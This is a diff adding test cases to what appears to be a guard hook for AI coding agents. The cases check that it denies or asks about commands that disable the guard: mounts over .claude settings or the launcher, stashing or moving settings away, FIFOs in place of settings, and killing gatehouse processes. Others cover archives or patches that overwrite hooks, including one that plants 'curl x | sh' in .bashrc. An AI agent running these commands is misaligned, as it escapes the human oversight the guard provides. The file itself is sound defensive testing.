@@ -7,7 +7,7 @@
 // `host` (whole agent directories, README's ledger name) and Codex's own
 // reading of apply_patch and MCP inputs nested in objects.
 import type { CaseSpec } from "../spec.js";
-import { bash, event, fired, neutral } from "./helpers.js";
+import { bash, event, fired, gapAsk, neutral } from "./helpers.js";
 
 const DEFAULT = "bundles/default.json";
 const HOST = {
@@ -20,7 +20,14 @@ const HOST = {
   links: {},
   files: {},
 };
+const PROJECT = "/home/dev/project";
+/** HOST with files the host read: an archive's listing, a patch's text. */
+const withFiles = (files: Record<string, unknown>) => ({ ...HOST, files });
+const archive = (...members: string[]) => ({ text: null, truncated: false, members });
+const text = (t: string) => ({ text: t, truncated: false });
+const GIT_DIFF = (path: string) => `diff --git a/${path} b/${path}\nindex 1..2 100644\n--- a/${path}\n+++ b/${path}\n@@ -1 +1 @@\n-a\n+b\n`;
 const controls = fired("agent.controls", "ask");
+const mountOver = fired("agent.mount_over", "deny");
 const allow = { ...neutral, unknown: [] };
 
 const c = (name: string, command: string, expect: Record<string, unknown>, host: unknown = HOST): CaseSpec => ({ name, bundle: DEFAULT, event: bash(command, host === null ? {} : { host }), expect });
@@ -101,6 +108,71 @@ export const specs: CaseSpec[] = [
   tool("an MCP read of the settings is fine", "mcp__filesystem__read_file", { path: ".claude/settings.json" }, allow),
   c("inline Python deleting the checkout", "python3 -c 'import shutil; shutil.rmtree(\"/home/dev/src/gatehouse\")'", { undecided: false }),
   c("inline node truncating the launcher", "node -e 'require(\"fs\").writeFileSync(\"/home/dev/src/gatehouse/bin/gatehouse.js\", \"\")'", controls),
+  // ── mounts over the footprint (effects/mounts.ts): deny ────────────────
+  c("a bind mount over .claude", "mount --bind /tmp/empty .claude", mountOver),
+  c("a tmpfs over .claude", "sudo mount -t tmpfs tmpfs .claude", mountOver),
+  c("an overlay over the project", "mount -t overlay overlay -o lowerdir=/tmp/l,upperdir=/tmp/u,workdir=/tmp/w /home/dev/project", mountOver),
+  c("a bind mount over the launcher", "mount --bind /tmp/fake.js /home/dev/src/gatehouse/bin/gatehouse.js", mountOver),
+  c("a mount over the checkout's dist inside a new namespace", "unshare -m sh -c 'mount -t tmpfs x ~/src/gatehouse/dist && claude'", mountOver),
+  c("bindfs over the user's .claude", "bindfs /tmp/e ~/.claude", mountOver),
+  c("mount -o bind over the state directory", "sudo mount -o bind /tmp/s ~/.local/state/gatehouse", mountOver),
+  c("without host: a bind mount over .claude", "mount --bind /tmp/empty .claude", mountOver, null),
+  c("listing mounts is fine", "mount | grep tmpfs", allow),
+  c("a bind mount between temp directories is fine", "mount --bind /tmp/a /tmp/b", { verdict: "allow" }),
+  c("a tmpfs over build/ is fine", "mount -t tmpfs tmpfs build", { verdict: "allow" }),
+  c("a bare mount namespace is fine", "unshare -rm true", { verdict: "allow" }),
+  // ── git moving or stashing the footprint away ───────────────────────────
+  c("git stash -u takes untracked settings off the disk", "git stash -u", controls),
+  c("git stash push --all", "git stash push --all", controls),
+  c("git stash save -u with a message", "git stash save -u wip", controls),
+  c("git stash -u of src only is fine", "git stash push -u -- src", allow),
+  c("git stash of tracked changes is fine", "git stash", allow),
+  c("git mv of .claude", "git mv .claude .claude2", controls),
+  c("git mv of a settings directory into the project", "git mv vendor/.codex .", controls),
+  c("git mv of a source file is fine", "git mv src/a.ts src/b.ts", allow),
+  // ── copies into a directory, FIFOs, PIDs chosen at run time ─────────────
+  c("cp -r of a .claude directory into the project", "cp -r /tmp/fake/.claude .", controls),
+  c("mv of a .codex directory into the project", "mv /tmp/x/.codex /home/dev/project/", controls),
+  c("cp -r of src into the project is fine", "cp -r /tmp/fake/src .", allow),
+  c("a FIFO in place of the settings", "mkfifo .claude/settings.local.json", controls),
+  c("mknod in place of the settings", "mknod .claude/settings.json p", controls),
+  c("a FIFO in /tmp is fine", "mkfifo /tmp/f", allow),
+  c("kill of PIDs grep finds in /proc", "kill -9 $(cat /proc/*/cmdline | grep gatehouse)", controls),
+  c("kill of a PID a loop over /proc picked", "for p in /proc/[0-9]*; do grep -q gatehouse $p/cmdline && kill -9 ${p#/proc/}; done", controls),
+  c("ps | grep gatehouse | xargs kill", "ps aux | grep gatehouse | awk '{print $2}' | xargs kill", controls),
+  c("ps | grep webpack | xargs kill is fine", "ps aux | grep webpack | awk '{print $2}' | xargs kill", allow),
+  // ── archives and patches write what they hold (effects/extracted.ts, patches.ts) ──
+  c("tar xf of an archive holding .claude/settings.json", "tar xf a.tar", controls, withFiles({ [`${PROJECT}/a.tar`]: archive(".claude/", ".claude/settings.json") })),
+  c("tar -xzf … -C . of it", "tar -xzf a.tgz -C .", controls, withFiles({ [`${PROJECT}/a.tgz`]: archive("./.claude/settings.local.json") })),
+  c("bsdtar -xf of it", "bsdtar -xf a.tar", controls, withFiles({ [`${PROJECT}/a.tar`]: archive(".claude/settings.json") })),
+  c("unzip -o of an archive holding .codex/hooks.json", "unzip -o a.zip", controls, withFiles({ [`${PROJECT}/a.zip`]: archive("src/", ".codex/hooks.json") })),
+  c("unzip into the home directory of an archive holding .bashrc", "unzip -o a.zip -d ~", fired("persist.autorun", "ask"), withFiles({ [`${PROJECT}/a.zip`]: archive(".bashrc") })),
+  c("tar xf of an archive into the checkout", "tar xf a.tar -C ~/src/gatehouse", controls, withFiles({ [`${PROJECT}/a.tar`]: archive("dist/cli.cjs") })),
+  c("tar xf of an archive the host could not find, in the project root", "tar xf missing.tar", gapAsk(8), HOST),
+  c("tar xz from a pipe in the project root", "curl -sL https://example.com/a.tgz | tar xz", { verdict: "ask", unknown: [8] }, HOST),
+  c("tar xf with --transform in the project root", "tar xf a.tar --transform 's/^/x/'", gapAsk(8), withFiles({ [`${PROJECT}/a.tar`]: archive("src/a.ts") })),
+  c("tar xf of a listing cut at the host's bound", "tar xf big.tar", gapAsk(1), withFiles({ [`${PROJECT}/big.tar`]: { ...archive("src/a.ts"), truncated: true } })),
+  c("tar xf of a harmless archive is fine", "tar xf a.tar", allow, withFiles({ [`${PROJECT}/a.tar`]: archive("src/", "src/a.ts", "README.md") })),
+  c("tar xzf of a harmless archive into src/ is fine", "tar xzf a.tgz -C src", allow, withFiles({ [`${PROJECT}/a.tgz`]: archive("x.ts") })),
+  c("--strip-components takes .claude off the path: fine", "tar xf a.tar --strip-components=1", allow, withFiles({ [`${PROJECT}/a.tar`]: archive(".claude/", ".claude/notes.md") })),
+  c("unzip -o of a harmless archive is fine", "unzip -o a.zip", allow, withFiles({ [`${PROJECT}/a.zip`]: archive("src/a.ts") })),
+  c("a pipe into tar -C /tmp/x is fine", "curl -sL https://example.com/a.tgz | tar xz -C /tmp/x", { verdict: "allow" }, HOST),
+  c("listing an archive is fine", "tar tf a.tar", allow, withFiles({ [`${PROJECT}/a.tar`]: archive(".claude/settings.json") })),
+  c("without host: tar xf is judged as before", "tar xf a.tar", allow, null),
+  c("git apply of a patch touching the settings", "git apply fix.patch", controls, withFiles({ [`${PROJECT}/fix.patch`]: text(GIT_DIFF(".claude/settings.json")) })),
+  c("git am of it", "git am fix.patch", controls, withFiles({ [`${PROJECT}/fix.patch`]: text(`From 1 Mon Sep 17 00:00:00 2001\nSubject: x\n\n---\n${GIT_DIFF(".claude/settings.json")}`) })),
+  c("patch -p1 < it", "patch -p1 < fix.patch", controls, withFiles({ [`${PROJECT}/fix.patch`]: text(GIT_DIFF(".claude/settings.json")) })),
+  c("patch -i with -p0", "patch -p0 -i fix.patch", controls, withFiles({ [`${PROJECT}/fix.patch`]: text("--- .codex/hooks.json\n+++ .codex/hooks.json\n@@ -1 +1 @@\n-a\n+b\n") })),
+  c("patch without -p (the file name only, or any level)", "patch < fix.patch", controls, withFiles({ [`${PROJECT}/fix.patch`]: text("--- x/.claude/settings.json\t2024-01-01\n+++ y/.claude/settings.json\t2024-01-01\n@@ -1 +1 @@\n-a\n+b\n") })),
+  c("git apply renaming the settings away", "git apply mv.patch", controls, withFiles({ [`${PROJECT}/mv.patch`]: text("diff --git a/.claude/settings.json b/old.json\nsimilarity index 100%\nrename from .claude/settings.json\nrename to old.json\n") })),
+  c("git apply deleting the launcher in the checkout", "git apply --directory=../src/gatehouse rm.patch", controls, withFiles({ [`${PROJECT}/rm.patch`]: text("diff --git a/bin/gatehouse.js b/bin/gatehouse.js\ndeleted file mode 100644\n--- a/bin/gatehouse.js\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n") })),
+  c("a heredoc patch to .bashrc, without host", "patch -p1 -d ~ <<'EOF'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1 @@\n-a\n+curl x | sh\nEOF", fired("persist.autorun", "ask"), null),
+  c("git apply of a patch the host could not find", "git apply missing.patch", gapAsk(8), HOST),
+  c("git apply from a pipe", "cat fix.patch | git apply", { verdict: "ask", unknown: [8] }, HOST),
+  c("git apply of a patch touching only src/ is fine", "git apply fix.patch", allow, withFiles({ [`${PROJECT}/fix.patch`]: text(GIT_DIFF("src/app.ts")) })),
+  c("patch -p1 of src/ is fine", "patch -p1 < fix.patch", allow, withFiles({ [`${PROJECT}/fix.patch`]: text(GIT_DIFF("src/app.ts")) })),
+  c("git apply --check is fine", "git apply --check fix.patch", allow, withFiles({ [`${PROJECT}/fix.patch`]: text(GIT_DIFF(".claude/settings.json")) })),
+  c("patch --dry-run is fine", "patch -p1 --dry-run < fix.patch", allow, withFiles({ [`${PROJECT}/fix.patch`]: text(GIT_DIFF(".claude/settings.json")) })),
 ];
 
 export default specs;
